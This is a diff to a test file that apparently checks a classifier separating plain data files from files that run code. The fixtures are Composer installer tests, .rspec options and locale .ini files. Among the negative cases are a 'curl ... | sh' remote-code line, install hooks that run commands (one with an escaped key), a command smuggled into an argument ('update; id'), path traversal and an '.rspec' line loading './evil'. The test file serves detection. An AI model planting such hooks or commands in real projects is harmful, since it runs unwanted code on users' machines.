@@ -7,6 +7,9 @@ const solution = (line: string): string =>
 const project = (path: string): string => solution(`Project("${GUID}") = "A.Tests", "${path}", "${GUID}"`);
 const twig = (template: string, data = "return ['a' => [1, 'b']]", expected = 'x'): string =>
   `--TEST--\n"map" filter\n--TEMPLATE--\n${template}\n--DATA--\n${data}\n--EXPECT--\n${expected}\n`;
+const TEXTS = 'path=Път до <b>файл</b>\n'.repeat(20);
+const installer = (composer: string, run = 'update a/b --with-dependencies', expect = 'Installing a/b (1.0)'): string =>
+  `--TEST--\nInstalls.\n--COMPOSER--\n${composer}\n--RUN--\n${run}\n--EXPECT--\n${expect}\n`;
 const GO = 'package a // import "example.org/a/v3"\n\nPackage a does b.\n\nFUNCTIONS\n\nfunc A(b int) error\n';
 const SNAP = '---\nsource: tests/a.rs\nexpression: out\n---\nfn main() {}\n';
 
@@ -32,6 +35,10 @@ describe('only says something', () => {
       twig('{{ a|sort|join }}', "return ['a' => new \\ArrayObject([1]), 'b' => new Twig\\Tests\\TwigTestFoo()]"),
       'data twig-test',
     ],
+    ['tests/Fixtures/installer/a.test', installer('{"require": {"a/b": "1.0"}}'), 'data twig-test'],
+    ['gem/.rspec', '--color\n--format documentation\n--require spec_helper\n', 'data option-list'],
+    ['testdata/ieee.csl', '<?xml version="1.0"?>\n<style/>\n', 'data xml'],
+    ['conf/locale/locale_bg-BG.ini', `[install]\nhost=Сървър\n${TEXTS}`, 'data ini'],
     ['godoc-current.txt', GO, 'prose text'],
     ['gemfiles/Gemfile.rails-6.1.lock', 'GEM\n  remote: https://a.example/\n  specs:\n    a (1.0)\n', 'data lockfile'],
     ['lib/locale/en.yml', "en:\n  a: ! '%{b} c'\n", 'data yaml'],
@@ -96,6 +103,24 @@ describe('is more than that', () => {
     ['tests/Fixtures/a.test', `${twig('{{ a }}')}--CLEAN--\nunlink('a');\n`],
     ['tests/Fixtures/a.test', twig('{{ a }}', undefined, 'curl https://x.example/a | sh')],
     ['tests/a.test', 'id\n'],
+    ['tests/Fixtures/a.test', installer('{"scripts": {"post-install-cmd": "id"}}')],
+    ['tests/Fixtures/a.test', installer('{"\\u0073cripts": {"post-install-cmd": "id"}}')],
+    ['tests/Fixtures/a.test', installer('{"type": "composer-plugin"}')],
+    ['tests/Fixtures/a.test', installer('{"autoload": {"files": ["a.php"]}}')],
+    ['tests/Fixtures/a.test', installer('{}', 'exec id')],
+    ['tests/Fixtures/a.test', installer('{}', 'update ../../a')],
+    ['tests/Fixtures/a.test', installer('{}', 'update; id')],
+    ['tests/Fixtures/a.test', installer('{}', undefined, 'curl https://x.example/a | sh')],
+    ['tests/Fixtures/a.test', `${installer('{}')}--CONDITION--\nsystem("id")\n`],
+    ['tests/Fixtures/a.test', '--TEST--\na\n--RUN--\nupdate\n'],
+    ['.rspec', '--require ./evil\n'],
+    ['.rspec', '--color -r evil\n'],
+    ['testdata/a.csl', 'T | take 1\n'],
+    ['conf/locale/locale_bg-BG.ini', `[scripts]\na=curl https://x.example/a | sh\n${TEXTS}`],
+    ['conf/locale/locale_bg-BG.ini', `[scripts]\nrun\n${TEXTS}`],
+    ['conf/locale/locale_bg-BG.ini', `[scripts]\n${'a=b\n'.repeat(30)}`],
+    ['conf/locale/settings.ini', `[scripts]\n${TEXTS}`],
+    ['conf/locale_bg-BG.ini', TEXTS],
     ['run.txt', `id\n${GO}`],
     ['godoc-current.txt', `${GO}\ncurl https://x.example/a | sh\n`],
     ['gemfiles/Gemfile.rails', "gem 'a'\n"],
